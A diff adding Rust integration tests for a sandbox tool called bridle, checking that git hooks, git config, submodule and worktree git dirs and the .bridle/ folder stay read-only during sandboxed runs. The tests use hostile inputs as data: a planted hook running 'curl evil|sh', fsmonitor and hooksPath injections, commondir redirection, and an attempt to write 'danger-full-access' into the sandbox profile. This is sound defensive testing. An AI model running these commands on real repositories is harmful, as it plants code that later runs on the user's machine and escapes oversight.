@@ -1,0 +1,538 @@
+//! G-FS-PROTECT end to end: protected git metadata and `.bridle/` stay read-only inside the
+//! sandbox while ordinary git use keeps working, against the command and against changes made
+//! on the host during a run.
+
+use std::path::Path;
+use std::process::Command;
+use std::time::Duration;
+
+use pretty_assertions::assert_eq;
+
+use super::exec_fs::{listing, snapshot};
+use super::support::{ExecEnv, Run, path_str, wait_until};
+
+fn git(dir: &Path, args: &[&str]) -> String {
+    let out = Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env("HOME", dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .expect("run git");
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// `git commit --allow-empty` with a fixed identity.
+const EMPTY_COMMIT: [&str; 9] = [
+    "-c",
+    "user.name=a",
+    "-c",
+    "user.email=a@e",
+    "commit",
+    "-q",
+    "--allow-empty",
+    "-m",
+    "init",
+];
+
+fn git_repo() -> ExecEnv {
+    let e = ExecEnv::new();
+    git(&e.workspace, &["init", "-q", "-b", "main", "."]);
+    std::fs::write(
+        e.workspace.join(".git/hooks/pre-commit.sample"),
+        "#!/bin/sh\n",
+    )
+    .unwrap();
+    e
+}
+
+#[test]
+fn git_hooks_and_config_are_read_only() {
+    let e = git_repo();
+    let hooks = e.workspace.join(".git/hooks");
+    let config = e.workspace.join(".git/config");
+    let sample = hooks.join("pre-commit.sample");
+    let before = (snapshot(&config), snapshot(&sample), listing(&hooks));
+    let r = e.sh(
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo new_hook=$?
+         echo evil >> .git/hooks/pre-commit.sample; echo edit_hook=$?
+         chmod +x .git/hooks/pre-commit.sample; echo chmod_hook=$?
+         rm .git/hooks/pre-commit.sample; echo rm_hook=$?
+         mv .git/hooks/pre-commit.sample .git/hooks/pre-commit; echo rename_hook=$?
+         printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config; echo edit_config=$?
+         git config core.hooksPath .evil; echo git_config=$?
+         rm -f .git/config; echo rm_config=$?
+         mv .git/config .git/config.old; echo rename_config=$?
+         touch -d 2000-01-01 .git/config; echo utimes_config=$?",
+    );
+    r.assert_ok();
+    for step in [
+        "new_hook",
+        "edit_hook",
+        "chmod_hook",
+        "rm_hook",
+        "rename_hook",
+        "edit_config",
+        "git_config",
+        "rm_config",
+        "rename_config",
+        "utimes_config",
+    ] {
+        r.assert_failed(step);
+    }
+    assert_eq!(
+        (snapshot(&config), snapshot(&sample), listing(&hooks)),
+        before,
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn git_dir_cannot_be_swapped_out() {
+    let e = git_repo();
+    let r = e.sh("mv .git .git2; echo rename_git=$?
+         mv .git/hooks .git/hooks.old; echo rename_hooks=$?
+         rm -rf .git/hooks; echo rm_hooks=$?
+         mkdir -p fake/hooks && printf '#!/bin/sh\\nexit 0\\n' > fake/hooks/pre-commit
+         rm -rf .git/hooks 2>/dev/null; mv fake/hooks .git/hooks; echo replace_hooks=$?");
+    r.assert_ok();
+    r.assert_failed("rename_git");
+    r.assert_failed("rename_hooks");
+    r.assert_failed("rm_hooks");
+    r.assert_failed("replace_hooks");
+    assert!(e.workspace.join(".git/config").is_file());
+    assert!(e.workspace.join(".git/hooks/pre-commit.sample").is_file());
+    assert!(!e.workspace.join(".git/hooks/pre-commit").exists());
+    assert!(!e.workspace.join(".git2").exists());
+}
+
+#[test]
+fn ordinary_git_use_keeps_working() {
+    let e = git_repo();
+    let r = e.sh(
+        "export GIT_CONFIG_NOSYSTEM=1
+         echo hello > a.txt && git add a.txt; echo add=$?
+         git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'first'; echo commit=$?
+         git branch feature; echo branch=$?
+         git checkout -q feature && echo more >> a.txt &&
+           git -c user.name=Agent -c user.email=agent@example.com commit -q -am second; echo commit2=$?
+         git checkout -q main; echo checkout=$?
+         git log --oneline --all | wc -l | sed 's/^ */commits=/'
+         git status --porcelain | wc -l | sed 's/^ */dirty=/'",
+    );
+    r.assert_ok();
+    for step in ["add", "commit", "branch", "commit2", "checkout"] {
+        r.assert_succeeded(step);
+    }
+    assert_eq!(r.value("commits"), "2");
+    // Judged from outside too: the host's git sees the history and the branch.
+    let branches = git(&e.workspace, &["branch", "--list"]);
+    assert!(
+        branches.contains("feature") && branches.contains("main"),
+        "{branches}"
+    );
+    let log = git(&e.workspace, &["log", "--format=%s", "feature"]);
+    assert_eq!(log, "second\nfirst\n");
+}
+
+#[test]
+fn git_init_at_workspace_root_fails_and_leaves_no_git_dir() {
+    let e = ExecEnv::new();
+    e.write("src/main.c", "int main;\n");
+    let r = e.sh("git init -q .; echo init=$?
+         mkdir -p .git/hooks 2>/dev/null
+         echo evil > .git/hooks/post-checkout; echo hook=$?
+         mkdir sub && cd sub && git init -q . && echo nested_init=0");
+    r.assert_ok();
+    r.assert_failed("init");
+    r.assert_failed("hook");
+    // A repository below the root is ordinary work.
+    r.assert_succeeded("nested_init");
+    assert!(e.workspace.join("sub/.git/HEAD").is_file());
+    // No placeholder is left behind.
+    assert_eq!(listing(&e.workspace), ["src", "sub"]);
+}
+
+#[test]
+fn bridle_dir_is_read_only() {
+    let e = ExecEnv::new();
+    let layer = e.write(".bridle/notes.txt", "mine\n");
+    let before = snapshot(&layer);
+    let r = e.sh(
+        "echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?
+         echo x >> .bridle/notes.txt; echo append=$?
+         mv .bridle .bridle.old; echo rename=$?
+         rm -rf .bridle; echo rm=$?",
+    );
+    r.assert_ok();
+    for step in ["create", "append", "rename", "rm"] {
+        r.assert_failed(step);
+    }
+    assert_eq!(snapshot(&layer), before);
+    assert_eq!(listing(&e.workspace.join(".bridle")), ["notes.txt"]);
+}
+
+#[test]
+fn missing_bridle_dir_cannot_be_created() {
+    let e = ExecEnv::new();
+    let r = e.sh("mkdir -p .bridle; echo mkdir=$?
+         echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?");
+    r.assert_ok();
+    r.assert_failed("create");
+    assert!(!e.workspace.join(".bridle").exists());
+}
+
+/// A placeholder is shared by concurrent runs in one workspace: the run that created it must not
+/// remove it while another run still relies on it (removing a mount point on the host detaches
+/// it in the other run's mount namespace, and `.git/hooks` would become writable there).
+#[test]
+fn protection_holds_when_a_concurrent_run_ends_first() {
+    let e = ExecEnv::new();
+    let ws = e.workspace.clone();
+    let first = e
+        .exec_cmd(
+            &[],
+            &[],
+            &["sh", "-c", "while [ ! -e first-go ]; do sleep 0.02; done"],
+        )
+        .spawn()
+        .unwrap();
+    let mut first = Guard(first);
+    assert!(
+        wait_until(Duration::from_secs(10), || ws.join(".git").is_dir()),
+        "the first run never protected .git"
+    );
+    let second = e
+        .exec_cmd(
+            &[],
+            &[],
+            &[
+                "sh",
+                "-c",
+                "echo > second-ready; while [ ! -e second-go ]; do sleep 0.02; done
+                 mkdir -p .git/hooks; echo mkdir=$?
+                 echo evil > .git/hooks/pre-commit; echo hook=$?
+                 git init -q .; echo init=$?",
+            ],
+        )
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    assert!(
+        wait_until(Duration::from_secs(10), || ws.join("second-ready").exists()),
+        "the second run never started"
+    );
+    std::fs::write(ws.join("first-go"), "").unwrap();
+    let status = first.0.wait().unwrap();
+    assert_eq!(status.code(), Some(0));
+    std::fs::write(ws.join("second-go"), "").unwrap();
+    let out = second.wait_with_output().unwrap();
+    let r = Run {
+        code: out.status.code(),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        elapsed: Duration::ZERO,
+    };
+    r.assert_ok();
+    r.assert_failed("mkdir");
+    r.assert_failed("hook");
+    r.assert_failed("init");
+    assert!(
+        !ws.join(".git/hooks/pre-commit").exists(),
+        "a hook was planted on the host"
+    );
+    // The last run out removed the shared placeholders.
+    assert_eq!(
+        listing(&ws),
+        ["first-go", "second-go", "second-ready"],
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn placeholders_left_by_a_killed_run_are_cleaned_up() {
+    let e = ExecEnv::new();
+    let ws = &e.workspace;
+    // What a bridle killed with SIGKILL leaves behind.
+    std::fs::create_dir(ws.join(".git")).unwrap();
+    std::fs::write(ws.join(".git/.bridle-placeholder"), "").unwrap();
+    let r = e.sh("git init -q .; echo init=$?; echo x > .git/config; echo config=$?");
+    r.assert_ok();
+    r.assert_failed("init");
+    r.assert_failed("config");
+    assert_eq!(listing(ws), Vec::<String>::new());
+}
+
+/// Kills the child when dropped (a failed assertion must not leave a bridle waiting forever).
+struct Guard(std::process::Child);
+
+impl Drop for Guard {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// `.git/config` and `.git/hooks` are read-only, but `.git` itself must stay writable for
+/// ordinary git use, and git reads its config and hooks from the directory named in
+/// `$GIT_DIR/commondir` when that file exists. A missing file cannot be bound read-only, so
+/// bridle's init watches for it: a planted `commondir` is removed and the sandbox stopped, and the
+/// user's next `git status` outside does not run the planted `core.fsmonitor` command.
+#[test]
+fn git_commondir_cannot_redirect_config_and_hooks() {
+    let e = git_repo();
+    git(&e.workspace, &EMPTY_COMMIT);
+    let marker = e.outside.join("fsmonitor-ran");
+    let m = path_str(&marker);
+    let r = e.sh(&format!(
+        "mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/
+         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {m}; false\"\\n' > evil/config
+         echo ../evil > .git/commondir; echo commondir=$?; sleep 5; echo survived"
+    ));
+    // Init notices the planted file, removes it and stops the sandbox.
+    assert_eq!(r.code, Some(137), "{}\n{}", r.stdout, r.stderr);
+    assert!(!r.stdout.contains("survived"), "{}", r.stdout);
+    assert!(
+        r.stderr.contains("redirect git's configuration"),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        !e.workspace.join(".git/commondir").exists(),
+        "the planted commondir is still there"
+    );
+    // Judged from outside: the user's own git, after the run, must not run the planted command.
+    let _ = Command::new("git")
+        .args(["status", "--porcelain"])
+        .current_dir(&e.workspace)
+        .env_clear()
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env("HOME", &e.home)
+        .output();
+    assert!(
+        !marker.exists(),
+        "the user's git ran a command planted from inside the sandbox"
+    );
+}
+
+/// A command that keeps planting `commondir` from several processes cannot get one past init:
+/// the sandbox is stopped before the file is removed, so nothing is planted again after it.
+#[test]
+fn commondir_planted_in_a_loop_leaves_nothing_behind() {
+    let e = git_repo();
+    let r = e.sh(
+        "plant() { while :; do echo ../evil > .git/commondir.$1; mv -f .git/commondir.$1 .git/commondir; done; }
+         plant 1 & plant 2 & plant 3 & wait",
+    );
+    assert_eq!(r.code, Some(137), "{}\n{}", r.stdout, r.stderr);
+    assert!(
+        !e.workspace.join(".git/commondir").exists(),
+        "a planted commondir survived the run"
+    );
+}
+
+/// A repository with a submodule `lib` (git dir in `.git/modules/lib`) and a linked worktree
+/// outside the workspace (git dir in `.git/worktrees/wt`).
+fn repo_with_submodule_and_worktree() -> ExecEnv {
+    let e = git_repo();
+    let upstream = e.outside.join("lib-upstream");
+    std::fs::create_dir_all(&upstream).unwrap();
+    git(&upstream, &["init", "-q", "-b", "main", "."]);
+    let commit = EMPTY_COMMIT;
+    git(&upstream, &commit);
+    git(&e.workspace, &commit);
+    git(
+        &e.workspace,
+        &[
+            "-c",
+            "protocol.file.allow=always",
+            "submodule",
+            "add",
+            "-q",
+            path_str(&upstream),
+            "lib",
+        ],
+    );
+    git(
+        &e.workspace,
+        &[
+            "worktree",
+            "add",
+            "-q",
+            path_str(&e.outside.join("wt")),
+            "-b",
+            "wt",
+        ],
+    );
+    e
+}
+
+/// git runs hooks and configured commands from every git dir a repository uses: a submodule's
+/// (which `git status` in the superproject enters) and a linked worktree's `commondir` (which
+/// redirects config and hooks). They are protected like `.git/config` and `.git/hooks`, and
+/// ordinary git use inside the submodule keeps working.
+#[test]
+fn submodule_and_worktree_git_dirs_are_protected() {
+    let e = repo_with_submodule_and_worktree();
+    let module = e.workspace.join(".git/modules/lib");
+    let watched = [
+        module.join("config"),
+        e.workspace.join("lib/.git"),
+        e.workspace.join(".git/worktrees/wt/commondir"),
+    ];
+    let before: Vec<_> = watched.iter().map(|p| snapshot(p)).collect();
+    let hooks_before = listing(&module.join("hooks"));
+    let r = e.sh(
+        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/lib/config; echo config=$?
+         echo evil > .git/modules/lib/hooks/post-checkout; echo hook=$?
+         echo 'gitdir: /tmp/evil' > lib/.git; echo gitfile=$?
+         echo /tmp/evil > .git/worktrees/wt/commondir; echo commondir=$?
+         git -C lib -c user.name=a -c user.email=a@e commit -q --allow-empty -m inside; echo subcommit=$?",
+    );
+    r.assert_ok();
+    for key in ["config", "hook", "gitfile", "commondir"] {
+        r.assert_failed(key);
+    }
+    r.assert_succeeded("subcommit");
+    let after: Vec<_> = watched.iter().map(|p| snapshot(p)).collect();
+    assert_eq!(before, after);
+    assert_eq!(hooks_before, listing(&module.join("hooks")));
+    assert!(git(&e.workspace.join("lib"), &["log", "--format=%s"]).contains("inside"));
+}
+
+#[test]
+fn policy_explain_names_a_found_git_dir() {
+    let e = repo_with_submodule_and_worktree();
+    let out = e
+        .bridle()
+        .args(["policy", "explain", "write", ".git/modules/lib/config"])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("denied"), "{stdout}");
+    assert!(
+        stdout.contains("found on disk: git dir of submodule `.git/modules/lib`"),
+        "{stdout}"
+    );
+}
+
+/// Runs `git` on the host (outside any sandbox) in `dir`, returning whether it succeeded and
+/// its stderr.
+fn host_git(e: &ExecEnv, args: &[&str]) -> (bool, String) {
+    let out = Command::new("git")
+        .args(args)
+        .current_dir(&e.workspace)
+        .env("HOME", &e.home)
+        .output()
+        .unwrap();
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+/// The first line bridle writes into a repository config lock it holds.
+const LOCK_MARKER: &str = "# bridle: held while a sandboxed run uses this repository";
+
+/// git rewrites `.git/config` by renaming `config.lock` over it, which would detach the
+/// read-only bind inside the sandbox. The run holds git's own lock instead: git on the host
+/// cannot change the config while the run lasts, the command cannot either, and afterwards the
+/// lock is gone and git works again.
+#[test]
+fn host_git_cannot_replace_the_protected_config_during_a_run() {
+    let e = ExecEnv::new();
+    assert!(host_git(&e, &["init", "-q", "."]).0);
+    let lock = e.workspace.join(".git/config.lock");
+    let script = "sleep 1.5; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo appended=$?; \
+                  rm -f .git/config.lock; echo removed=$?; echo end";
+    let mut cmd = e.exec_cmd(&[], &[], &["sh", "-c", script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    assert!(
+        wait_until(Duration::from_secs(10), || lock.exists()),
+        "the run never locked the config"
+    );
+    let (ok, stderr) = host_git(&e, &["config", "user.name", "host-user"]);
+    assert!(!ok, "git changed the config during the run");
+    assert!(stderr.contains("lock"), "{stderr}");
+    let out = child.wait_with_output().unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
+    assert!(stdout.contains("end"), "{stdout}");
+    assert!(!stdout.contains("appended=0"), "{stdout}");
+    assert!(!stdout.contains("removed=0"), "{stdout}");
+    let config = std::fs::read_to_string(e.workspace.join(".git/config")).unwrap();
+    assert!(!config.contains("fsmonitor"), "{config}");
+    assert!(!lock.exists(), "the lock outlived the run");
+    let (ok, stderr) = host_git(&e, &["config", "user.name", "host-user"]);
+    assert!(ok, "git cannot change the config after the run: {stderr}");
+}
+
+#[test]
+fn a_config_lock_left_by_a_killed_run_is_cleaned_up() {
+    let e = ExecEnv::new();
+    assert!(host_git(&e, &["init", "-q", "."]).0);
+    let lock = e.workspace.join(".git/config.lock");
+    std::fs::write(&lock, format!("{LOCK_MARKER} (pid 999999)\n")).unwrap();
+    let r = e.sh("true");
+    r.assert_code(0);
+    assert!(!lock.exists(), "the stale lock is still there");
+}
+
+/// A `config.lock` that is not bridle's means git on the host is changing the config right now
+/// (or crashed doing so): the run cannot lock the config against replacement, so it refuses
+/// rather than run with a protection that a rename could detach, and leaves git's file alone.
+#[test]
+fn a_config_lock_held_by_git_is_a_refusal() {
+    let e = ExecEnv::new();
+    assert!(host_git(&e, &["init", "-q", "."]).0);
+    let lock = e.workspace.join(".git/config.lock");
+    std::fs::write(&lock, "[core]\n").unwrap();
+    let r = e.sh("touch MARK");
+    r.assert_code(125);
+    assert!(r.stderr.contains("config.lock"), "{}", r.stderr);
+    assert!(!e.workspace.join("MARK").exists());
+    assert_eq!(std::fs::read_to_string(&lock).unwrap(), "[core]\n");
+}
+
+/// A protected file replaced by rename from a host tool that does not take git's lock still
+/// detaches the bind inside: init notices and stops the whole sandbox at once.
+#[test]
+fn a_protected_file_replaced_on_the_host_stops_the_sandbox() {
+    let e = ExecEnv::new();
+    assert!(host_git(&e, &["init", "-q", "."]).0);
+    let config = e.workspace.join(".git/config");
+    // The command waits, then tries to plant configuration once the host has replaced it.
+    let script = "sleep 1.5; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo appended=$?; sleep 1; echo end";
+    let mut cmd = e.exec_cmd(&[], &[], &["sh", "-c", script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    std::thread::sleep(Duration::from_millis(600));
+    let replacement = e.workspace.join(".git/config.new");
+    let mut text = std::fs::read_to_string(&config).unwrap();
+    text.push_str("[user]\n\tname = host-user\n");
+    std::fs::write(&replacement, text).unwrap();
+    std::fs::rename(&replacement, &config).unwrap();
+    let out = child.wait_with_output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(137), "{stderr}");
+    assert!(
+        stderr.contains("was replaced from outside the sandbox"),
+        "{stderr}"
+    );
+    let config = std::fs::read_to_string(&config).unwrap();
+    assert!(!config.contains("fsmonitor"), "{config}");
+}
